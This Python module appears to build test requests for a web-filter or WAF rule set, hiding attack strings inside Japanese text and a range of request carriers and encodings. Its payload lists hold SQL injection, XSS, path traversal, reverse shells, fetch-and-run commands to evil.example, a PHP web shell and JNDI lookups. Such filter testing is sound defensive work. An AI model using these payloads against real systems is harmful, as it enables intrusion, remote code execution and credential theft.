"""Attacks, bare, hidden in Japanese, and hidden in the same place of a Latin text: that is what can be
asked for. Some rules look at a value's beginning only, whatever language stands in front."""
import json
import random
from urllib.parse import quote, quote_plus

import places
import texts
import traffic
import words

PAYLOADS = """1' or '1'='1
1' or 1=1-- -
' or 1=1#
admin'-- 
1 union select 1,2,3
-1' union select username,password from users-- -
1' and sleep(5)-- -
1;drop table users
1'; exec xp_cmdshell('dir')-- 
1' and extractvalue(1,concat(0x7e,version()))-- 
' union all select null,null,table_name from information_schema.tables-- 
1' or benchmark(10000000,md5(1))-- 
1) or (1=1
" or ""="
1' group by 1 having 1=1-- 
1' and (select count(*) from sysobjects)>0-- 
1 and ascii(substring((select database()),1,1))>64
'||(select 1 from dual)||'
1'/**/union/**/select/**/1,2-- 
1' waitfor delay '0:0:5'-- 
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
"><script>alert(document.cookie)</script>
' onmouseover='alert(1)
<a href="javascript:alert(1)">x</a>
<iframe src="javascript:alert(1)">
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<math><mtext><img src onerror=alert(1)>
<object data="data:text/html;base64,PHNjcmlwdD4=">
<style>@import'//evil.example/x.css';</style>
<input autofocus onfocus=alert(1)>
<video><source onerror=alert(1)>
javascript:alert(document.domain)
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<form action="javascript:alert(1)"><input type=submit>
<marquee onstart=alert(1)>
../../../../etc/passwd
..\\..\\..\\windows\\win.ini
/etc/passwd
....//....//etc/passwd
/proc/self/environ
file:///etc/passwd
../../../../etc/shadow
php://filter/convert.base64-encode/resource=index.php
http://127.0.0.1/x.txt?
;cat /etc/passwd
|id;uname -a
`cat /etc/passwd`
$(cat /etc/passwd)
; wget http://evil.example/x.sh -O- | sh
|nc -e /bin/sh 10.0.0.1 99
& ping -c 10 127.0.0.1 &
;/bin/bash -i >& /dev/tcp/10.0.0.1/99 0>&1
powershell -enc SQBFAFgA
<(cat /etc/passwd)
;curl http://evil.example/|bash
<?php system($_GET['c']); ?>
<?php phpinfo();?>
eval(base64_decode('cGhwaW5mbygpOw=='));
O:8:"stdClass":1:{s:1:"a";i:1;}
${jndi:ldap://evil.example/a}
${7*7}{{7*7}}
(#_memberAccess["allowStaticMethodAccess"]=true)
java.lang.Runtime.getRuntime().exec("id")
process.mainModule.require('child_process').exec('id')
() { :; }; /bin/cat /etc/passwd
%0d%0aSet-Cookie: x=1
<!--#exec cmd="/bin/ls" -->""".split("\n")

# Identifiers of databases may be Japanese.
NATIVE = """' union select 氏名,住所 from 会員-- -
1' or '名前'='名前
1' or 'あ'='あ'-- -
1; drop table 会員
' union select 暗証番号 from 会員 where 氏名='大西'-- -
<img alt="大阪" src=x onerror=alert('会社')>
<script>alert('会社')</script>
<a 会社=明細 onmouseover=alert(1)>大</a>
;cat /home/大西/../../etc/passwd
$(cat /etc/passwd; echo 会社)""".split("\n")


def prose(r):
    """Something that people write."""
    return texts.sentences(r, 1, 3)


# How an attack is put into a text. {} is the attack.
WAYS = (
    ("before", lambda r, p: prose(r) + " " + p),
    ("after", lambda r, p: p + " " + prose(r)),
    ("within", lambda r, p: prose(r) + " " + p + " " + prose(r)),
    ("glued", lambda r, p: words.noun(r) + p + words.noun(r)),
    ("cut", lambda r, p: r.choice(words.DANGEROUS) + p + r.choice(words.DANGEROUS)),
    ("address", lambda r, p: places.Address(r).line(r) + p),
    ("line", lambda r, p: prose(r) + "\r\n" + p + "\r\n" + prose(r)),
    ("ruler", lambda r, p: prose(r) + "\r\n-----\r\n" + p + "\r\n-----\r\n" + prose(r)),
    ("bow", lambda r, p: "申し訳ありません<(_ _)>" + p + "<(_ _)>お願いします"),
    ("faces", lambda r, p: r.choice(texts.KAOMOJI) + p + r.choice(texts.KAOMOJI) + prose(r)),
    ("answer", lambda r, p: "> (帯)" + p + "\r\n> " + prose(r)),
    ("price", lambda r, p: "約\\12,770" + p + "\\1,200円 番号 #12 です"),
    ("half", lambda r, p: "ｺﾒﾝﾄ" + p + "ﾖﾛｼｸ"),
    ("emoji", lambda r, p: "😊" + p + "🙏✨"),
    ("brackets", lambda r, p: "「" + p + "」"),
)


def in_query(r, text):
    """As the value of a search."""
    return traffic.message(r, "GET", "/search?q=" + quote_plus(text))


def in_form(charset, kind):
    """As a form's field."""
    def make(r, text):
        return traffic.message(r, "POST", "/contact", traffic.encoded([("name", "大西"), ("message", text)], charset), kind)
    return make


def in_json(ascii_only):
    """As a member of JSON."""
    def make(r, text):
        body = json.dumps({"名前": "大西", "note": text}, ensure_ascii=ascii_only).encode()
        return traffic.message(r, "POST", "/api/cart", body, "application/json")
    return make


def in_multipart(r, text):
    """As a field beside a file."""
    body, kind = traffic.multipart(r, [("comment", text), ("picture", "写真.png", "image/png", traffic.picture(r))])
    return traffic.message(r, "POST", "/review/picture", body, kind)


def in_name(r, text):
    """As a field's name."""
    return traffic.message(r, "POST", "/contact", (quote(text, safe="") + "=1").encode(), traffic.FORM)


def in_cookie(r, text):
    """As a cookie's value."""
    return traffic.message(r, "GET", "/", more=["Cookie: last=" + quote(text, safe="")])


def in_xml(r, text):
    """As an element's text."""
    text = text.replace("&", "&amp;").replace("<", "&lt;")
    return traffic.message(r, "POST", "/api/orders", ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><注文><備考>%s</備考></注文>" % text).encode(), "application/xml")


CARRIERS = (
    ("query", in_query), ("form", in_form("utf-8", traffic.FORM)), ("json", in_json(False)), ("json-escaped", in_json(True)),
    ("multipart", in_multipart), ("name", in_name), ("cookie", in_cookie), ("xml", in_xml),
    ("shift_jis", in_form("cp932", traffic.FORM + "; charset=Shift_JIS")), ("euc_jp", in_form("euc_jp", traffic.FORM + "; charset=EUC-JP")),
)


def fullwidth(text):
    """Every sign and letter as its full-width form."""
    return places.wide(text).replace("　", " ")


MARK = "\ue000"  # where the attack comes


def latin(text):
    """The same with a letter for every character beyond ASCII."""
    return "".join(c if c < "\x80" or c == MARK else "x" for c in text)


class Case:
    """One attack in one place. Beside it stand the bare one, the same in a Latin text, and both texts
    alone: where these are refused, the text is what was found."""

    def __init__(self, r, kind, put, payload, text):
        seed = r.random()  # all have the same cookies

        def request(name, value):
            return name, put(random.Random(seed), value)

        self.requests = (request("bare", payload), request("latin", latin(text).replace(MARK, payload)),
                         request("latin-alone", latin(text).replace(MARK, "x")), request("alone", text.replace(MARK, "x")),
                         request(kind, text.replace(MARK, payload)))


def cases(r):
    """Every attack in every way, in two carriers by turns; and all of them in full-width forms."""
    made = []
    for i, payload in enumerate(PAYLOADS + NATIVE):
        for j, (way, hide) in enumerate(WAYS):
            for carrier, put in (CARRIERS[(i + j) % len(CARRIERS)], CARRIERS[(i + 3 * j + 5) % len(CARRIERS)]):
                made.append(Case(r, "%s/%s" % (carrier, way), put, payload, hide(r, MARK)))
        for carrier, put in CARRIERS[:4]:
            made.append(Case(r, carrier + "/full-width", put, fullwidth(payload), prose(r) + " " + MARK))
    return made
